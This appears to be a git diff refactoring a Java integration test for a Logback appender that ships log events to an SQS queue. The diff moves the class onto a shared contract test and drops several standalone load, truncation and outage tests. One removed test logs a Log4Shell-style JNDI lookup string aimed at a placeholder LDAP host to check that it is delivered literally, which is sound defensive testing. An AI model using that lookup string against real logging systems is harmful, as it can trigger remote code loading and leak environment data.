@@ -4,70 +4,135 @@ import ch.qos.logback.classic.LoggerContext;
 import ch.qos.logback.classic.joran.JoranConfigurator;
 import ch.qos.logback.core.joran.spi.JoranException;
 import ch.qos.logback.core.status.Status;
-import io.github.sqsappender.core.internal.Utf8;
-import io.github.sqsappender.core.testing.EmbeddedSqs;
-import org.junit.jupiter.api.AfterAll;
-import org.junit.jupiter.api.AfterEach;
-import org.junit.jupiter.api.BeforeAll;
-import org.junit.jupiter.api.BeforeEach;
+import io.github.sqsappender.core.SqsAppenderMetrics;
+import io.github.sqsappender.core.testing.AbstractSqsAppenderContractTest;
 import org.junit.jupiter.api.Test;
-import org.junit.jupiter.api.TestInfo;
-import org.junit.jupiter.api.Timeout;
 import org.slf4j.Logger;
 import org.slf4j.LoggerFactory;
 import org.slf4j.MDC;
-import software.amazon.awssdk.services.sqs.model.Message;
 
 import javax.management.ObjectName;
+import java.io.ByteArrayInputStream;
 import java.io.File;
 import java.lang.management.ManagementFactory;
+import java.nio.charset.StandardCharsets;
 import java.nio.file.Paths;
 import java.time.Duration;
 import java.util.ArrayList;
-import java.util.HashSet;
 import java.util.List;
-import java.util.Set;
+import java.util.Map;
 import java.util.concurrent.CountDownLatch;
 import java.util.concurrent.TimeUnit;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
-/** The Logback appender configured from real logback.xml files, against ElasticMQ on loopback. */
-@Timeout(180)
-class LogbackSqsAppenderIT {
+/**
+ * The Logback appender against the shared contract (configured from generated logback.xml text,
+ * in the default context SLF4J and so the AWS SDK log to), plus what only Logback needs: a real
+ * re-entry guard, reset/reconfigure cycles, and a flush at JVM exit without Logback's shutdown hook.
+ */
+class LogbackSqsAppenderIT extends AbstractSqsAppenderContractTest {
 
-    static EmbeddedSqs sqs;
-    String queueUrl;
+    private LoggerContext invalidContext;
 
-    @BeforeAll
-    static void startServer() {
-        sqs = EmbeddedSqs.start();
+    @Override
+    protected String framework() {
+        return "logback";
     }
 
-    @AfterAll
-    static void stopServer() {
-        sqs.close();
+    @Override
+    protected void configureSqs(String url, Map<String, String> attributes, String rootLevel) {
+        StringBuilder appender = new StringBuilder("<appender name=\"SQS\" class=\"io.github.sqsappender.logback.SqsAppender\">")
+                .append("<queueUrl>").append(xml(url)).append("</queueUrl>");
+        if (!attributes.containsKey("messageAttributes")) {
+            appender.append("<messageAttributes>level,logger,mdc:requestId</messageAttributes>");
+        }
+        attributes.forEach((k, v) -> appender.append('<').append(k).append('>').append(xml(v)).append("</").append(k).append('>'));
+        appender.append("<encoder><pattern>%msg</pattern></encoder></appender>");
+        load((LoggerContext) LoggerFactory.getILoggerFactory(), "<configuration>" + appender
+                + "<appender name=\"QUIET\" class=\"ch.qos.logback.core.helpers.NOPAppender\"/>"
+                + "<logger name=\"org.elasticmq\" level=\"WARN\" additivity=\"false\"><appender-ref ref=\"QUIET\"/></logger>"
+                + "<logger name=\"org.apache.pekko\" level=\"WARN\" additivity=\"false\"><appender-ref ref=\"QUIET\"/></logger>"
+                + "<root level=\"" + rootLevel + "\"><appender-ref ref=\"SQS\"/></root></configuration>");
     }
 
-    @BeforeEach
-    void newQueue(TestInfo info) {
-        String method = info.getTestMethod().orElseThrow().getName();
-        queueUrl = sqs.createQueue("lb-" + method.substring(0, Math.min(60, method.length())));
-        System.setProperty("sqs.queueUrl", queueUrl);
-    }
-
-    @AfterEach
-    void quiet() {
-        System.clearProperty("sqs.maxMessageBytes");
-        System.clearProperty("sqs.lingerMs");
-        System.clearProperty("sqs.rootLevel");
+    @Override
+    protected void configureQuiet() {
+        if (invalidContext != null) {
+            invalidContext.stop();
+            invalidContext = null;
+        }
         configure("logback-test.xml");
+    }
+
+    @Override
+    protected List<String> configureInvalid(Map<String, String> attributes) {
+        StringBuilder bad = new StringBuilder("<appender name=\"BAD\" class=\"io.github.sqsappender.logback.SqsAppender\">");
+        attributes.forEach((k, v) -> bad.append('<').append(k).append('>').append(xml(v)).append("</").append(k).append('>'));
+        bad.append("</appender>");
+        invalidContext = new LoggerContext();
+        load(invalidContext, "<configuration>" + bad + "<root level=\"INFO\"><appender-ref ref=\"BAD\"/></root></configuration>");
+        return invalidContext.getStatusManager().getCopyOfStatusList().stream()
+                .filter(s -> s.getLevel() == Status.ERROR).map(Status::getMessage).toList();
+    }
+
+    @Override
+    protected boolean invalidAppenderIsNotRunning() {
+        SqsAppender bad = (SqsAppender) invalidContext.getLogger(Logger.ROOT_LOGGER_NAME).getAppender("BAD");
+        return bad == null || !bad.isStarted();
+    }
+
+    @Override
+    protected void log(String logger, String level, String message, Throwable throwable) {
+        Logger l = LoggerFactory.getLogger(logger);
+        switch (level) {
+            case "DEBUG" -> l.debug(message, throwable);
+            case "INFO" -> l.info(message, throwable);
+            case "WARN" -> l.warn(message, throwable);
+            default -> l.error(message, throwable);
+        }
+    }
+
+    @Override
+    protected void putMdc(String key, String value) {
+        MDC.put(key, value);
+    }
+
+    @Override
+    protected void removeMdc(String key) {
+        MDC.remove(key);
+    }
+
+    @Override
+    protected SqsAppenderMetrics metrics() {
+        return sqsAppender((LoggerContext) LoggerFactory.getILoggerFactory()).getMetrics();
+    }
+
+    @Override
+    protected boolean flush(long timeoutMillis) {
+        return sqsAppender((LoggerContext) LoggerFactory.getILoggerFactory()).flush(timeoutMillis);
+    }
+
+    private static void load(LoggerContext ctx, String xml) {
+        ctx.reset(); // stops the previous appenders: SqsAppender delivers what it holds
+        ctx.getStatusManager().clear();
+        JoranConfigurator configurator = new JoranConfigurator();
+        configurator.setContext(ctx);
+        try {
+            configurator.doConfigure(new ByteArrayInputStream(xml.getBytes(StandardCharsets.UTF_8)));
+        } catch (JoranException e) {
+            throw new IllegalStateException(e);
+        }
+    }
+
+    private static String xml(String value) {
+        return value.replace("&", "&amp;").replace("<", "&lt;");
     }
 
     /** Resets the default context (the one SLF4J and so the AWS SDK log to) and loads {@code resource}. */
     static LoggerContext configure(String resource) {
         LoggerContext ctx = (LoggerContext) LoggerFactory.getILoggerFactory();
-        ctx.reset(); // stops the previous appenders: SqsAppender delivers what it holds
+        ctx.reset();
         ctx.getStatusManager().clear();
         JoranConfigurator configurator = new JoranConfigurator();
         configurator.setContext(ctx);
@@ -80,148 +145,7 @@ class LogbackSqsAppenderIT {
     }
 
     static SqsAppender sqsAppender(LoggerContext ctx) {
-        return (SqsAppender) ctx.getLogger(org.slf4j.Logger.ROOT_LOGGER_NAME).getAppender("SQS");
-    }
-
-    @Test
-    void fortyThousandEventsFromEightThreadsArriveExactlyOnce() throws Exception {
-        LoggerContext ctx = configure("logback-sqs.xml");
-        Logger logger = LoggerFactory.getLogger("com.example.Load");
-        int threads = 8;
-        int perThread = 5_000;
-        CountDownLatch go = new CountDownLatch(1);
-        List<Thread> workers = new ArrayList<>();
-        for (int t = 0; t < threads; t++) {
-            int id = t;
-            Thread worker = new Thread(() -> {
-                try {
-                    go.await();
-                } catch (InterruptedException e) {
-                    return;
-                }
-                for (int i = 0; i < perThread; i++) {
-                    logger.info("t{}-{}", id, i);
-                }
-            }, "load-" + t);
-            workers.add(worker);
-            worker.start();
-        }
-        long start = System.nanoTime();
-        go.countDown();
-        for (Thread w : workers) {
-            w.join();
-        }
-        long loggedNanos = System.nanoTime() - start;
-        SqsAppender appender = sqsAppender(ctx);
-        assertThat(appender.flush(60_000)).isTrue();
-        long deliveredNanos = System.nanoTime() - start;
-        long requests = appender.getMetrics().getBatchRequests();
-        configure("logback-test.xml");
-
-        List<String> bodies = sqs.drainBodies(queueUrl, threads * perThread, Duration.ofSeconds(10));
-        Set<String> expected = new HashSet<>();
-        for (int t = 0; t < threads; t++) {
-            for (int i = 0; i < perThread; i++) {
-                expected.add("t" + t + "-" + i);
-            }
-        }
-        assertThat(bodies).hasSize(threads * perThread);
-        assertThat(new HashSet<>(bodies)).isEqualTo(expected);
-        assertThat(requests).isLessThanOrEqualTo(threads * perThread / 5);
-        System.out.printf("[measure] logback: %d events logged in %d ms (%.0f events/s on the caller side), "
-                        + "all acknowledged after %d ms (%.0f events/s end to end) in %d SendMessageBatch requests%n",
-                threads * perThread, loggedNanos / 1_000_000, threads * perThread / (loggedNanos / 1e9),
-                deliveredNanos / 1_000_000, threads * perThread / (deliveredNanos / 1e9), requests);
-    }
-
-    @Test
-    void hostileCharactersAreDeliveredSanitized() {
-        configure("logback-sqs.xml");
-        Logger logger = LoggerFactory.getLogger("com.example.Hostile");
-        logger.info("nul\u0000byte");
-        logger.info("\u001b[31mred\u001b[0m");
-        logger.info("lone \uD800 surrogate");
-        logger.info("not a char \uFFFF here");
-        logger.info("${jndi:ldap://example.invalid/a} ${env:HOME}");
-        logger.info("emoji 😀 ok");
-        configure("logback-test.xml");
-        assertThat(sqs.drainBodies(queueUrl, 6, Duration.ofSeconds(5))).containsExactlyInAnyOrder(
-                "nul\uFFFDbyte", "\uFFFD[31mred\uFFFD[0m", "lone \uFFFD surrogate", "not a char \uFFFD here",
-                "${jndi:ldap://example.invalid/a} ${env:HOME}", "emoji 😀 ok");
-    }
-
-    @Test
-    void twoMebibyteEventIsTruncatedToTheQueuesLimit() {
-        LoggerContext ctx = configure("logback-sqs.xml");
-        LoggerFactory.getLogger("com.example.Big").info("é".repeat(1024 * 1024));
-        assertThat(sqsAppender(ctx).flush(30_000)).isTrue();
-        assertThat(sqsAppender(ctx).getMetrics().getEventsTruncated()).isEqualTo(1);
-        configure("logback-test.xml");
-        List<Message> received = sqs.drain(queueUrl, 1, Duration.ofSeconds(5));
-        assertThat(received).hasSize(1);
-        assertThat(Utf8.encodedLength(received.get(0).body()) + attributeBytes(received.get(0))).isLessThanOrEqualTo(262_144);
-        assertThat(received.get(0).body()).startsWith("éééé").containsPattern("\\.\\.\\.\\[truncated \\d+ bytes]$");
-    }
-
-    @Test
-    void configuredMaxMessageBytesIsRespected() {
-        System.setProperty("sqs.maxMessageBytes", "1024");
-        configure("logback-sqs.xml");
-        MDC.put("requestId", "req-1");
-        try {
-            LoggerFactory.getLogger("com.example.Limit").warn("x".repeat(5_000));
-        } finally {
-            MDC.remove("requestId");
-        }
-        configure("logback-test.xml");
-        List<Message> received = sqs.drain(queueUrl, 1, Duration.ofSeconds(5));
-        assertThat(received).hasSize(1);
-        Message m = received.get(0);
-        assertThat(m.messageAttributes().get("level").stringValue()).isEqualTo("WARN");
-        assertThat(m.messageAttributes().get("mdc.requestId").stringValue()).isEqualTo("req-1");
-        assertThat(Utf8.encodedLength(m.body()) + attributeBytes(m)).isLessThanOrEqualTo(1024);
-    }
-
-    @Test
-    void loggingDoesNotWaitWhileNothingListensAndEverythingArrivesOnceTheServerStarts() throws Exception {
-        int port = EmbeddedSqs.freePort();
-        String lateUrl = "http://127.0.0.1:" + port + "/000000000000/late";
-        System.setProperty("sqs.queueUrl", lateUrl);
-        LoggerContext ctx = configure("logback-sqs.xml");
-        Logger logger = LoggerFactory.getLogger("com.example.Outage");
-        long start = System.nanoTime();
-        for (int i = 0; i < 1_000; i++) {
-            logger.info("during-outage-{}", i);
-        }
-        assertThat((System.nanoTime() - start) / 1_000_000).as("1000 logging calls during an outage").isLessThan(2_000);
-        SqsAppender appender = sqsAppender(ctx);
-        while (appender.getMetrics().getLastError().isEmpty()) {
-            Thread.onSpinWait();
-        }
-        try (EmbeddedSqs late = EmbeddedSqs.startOn(port)) {
-            late.createQueue("late");
-            assertThat(appender.flush(60_000)).isTrue();
-            configure("logback-test.xml");
-            assertThat(late.drainBodies(lateUrl, 1_000, Duration.ofSeconds(5))).hasSize(1_000).doesNotHaveDuplicates();
-        }
-    }
-
-    @Test
-    void allLoggersAtDebugIncludingTheSdkDoNotDeadlockOrFlood() {
-        System.setProperty("sqs.rootLevel", "DEBUG");
-        LoggerContext ctx = configure("logback-sqs.xml");
-        Logger logger = LoggerFactory.getLogger("com.example.Debug");
-        Logger sdkStyle = LoggerFactory.getLogger("software.amazon.awssdk.request");
-        for (int i = 0; i < 500; i++) {
-            logger.debug("debug-{}", i);
-            sdkStyle.debug("sdk internal {}", i);
-        }
-        SqsAppender appender = sqsAppender(ctx);
-        assertThat(appender.flush(60_000)).isTrue();
-        long appended = appender.getMetrics().getEventsAppended();
-        configure("logback-test.xml");
-        assertThat(appended).isEqualTo(500);
-        assertThat(sqs.drainBodies(queueUrl, 501, Duration.ofSeconds(3))).hasSize(500).allMatch(b -> b.startsWith("debug-"));
+        return (SqsAppender) ctx.getLogger(Logger.ROOT_LOGGER_NAME).getAppender("SQS");
     }
 
     @Test
@@ -231,19 +155,6 @@ class LogbackSqsAppenderIT {
         assertThat(sqsAppender(ctx).flush(30_000)).isTrue();
         configure("logback-test.xml");
         assertThat(sqs.drainBodies(queueUrl, 2, Duration.ofSeconds(3))).containsExactly("encoded:hello");
-    }
-
-    @Test
-    void invalidConfigurationIsReportedNamingTheAttributeAndTheApplicationKeepsLogging() {
-        LoggerContext ctx = configure("logback-invalid.xml");
-        List<String> errors = ctx.getStatusManager().getCopyOfStatusList().stream()
-                .filter(s -> s.getLevel() == Status.ERROR).map(Status::getMessage).toList();
-        assertThat(errors).anySatisfy(e -> assertThat(e).contains("maxBatchSize=11"));
-        assertThat(errors).anySatisfy(e -> assertThat(e).contains("overflowPolicy=wait"));
-        assertThat(errors).anySatisfy(e -> assertThat(e).contains("endpoint=not a url"));
-        assertThat(sqsAppender(ctx).isStarted()).isFalse();
-        LoggerFactory.getLogger("com.example.App").info("still fine"); // must not throw
-        assertThat(appenderThreads()).isEmpty();
     }
 
     @Test
@@ -314,14 +225,4 @@ class LogbackSqsAppenderIT {
         assertThat(sqs.drainBodies(queueUrl, 300, Duration.ofSeconds(5))).hasSize(300);
     }
 
-    static List<Thread> appenderThreads() {
-        return Thread.getAllStackTraces().keySet().stream()
-                .filter(t -> t.isAlive() && t.getName().startsWith("sqs-appender-")).toList();
-    }
-
-    static int attributeBytes(Message m) {
-        return m.messageAttributes().entrySet().stream()
-                .mapToInt(e -> Utf8.encodedLength(e.getKey()) + Utf8.encodedLength(e.getValue().dataType())
-                        + Utf8.encodedLength(e.getValue().stringValue())).sum();
-    }
 }
